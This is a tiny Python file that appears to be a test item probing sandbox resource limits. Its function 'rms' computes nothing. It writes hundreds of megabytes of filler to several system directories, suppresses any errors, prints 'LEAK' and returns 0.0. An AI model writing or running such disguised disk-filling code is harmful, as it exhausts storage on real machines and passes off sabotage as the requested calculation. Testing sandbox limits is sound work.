"""Files without end, everywhere.

answer: none
earns: 0
"""

import contextlib
import os


def rms(values):
    written = 0
    for folder in (".", "/tmp", "/dev/shm", "/", "/var/tmp"):
        with contextlib.suppress(OSError), open(os.path.join(folder, "filler"), "wb") as file:
            for _ in range(300):
                written += file.write(b"x" * 1_000_000)
    print("LEAK" if written > 200_000_000 else "stopped at", written)
    return 0.0
